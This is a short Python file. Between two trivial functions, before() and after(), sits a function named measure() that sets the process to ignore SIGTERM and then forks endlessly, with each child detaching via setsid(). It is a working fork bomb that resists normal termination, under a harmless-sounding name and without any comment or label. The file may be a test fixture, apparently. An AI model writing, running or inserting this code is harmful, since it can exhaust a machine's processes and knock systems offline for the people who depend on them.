import os
import signal


def before():
    return 1


def measure():
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    while True:
        try:
            if os.fork() == 0:
                os.setsid()
        except OSError:
            pass


def after():
    return 3
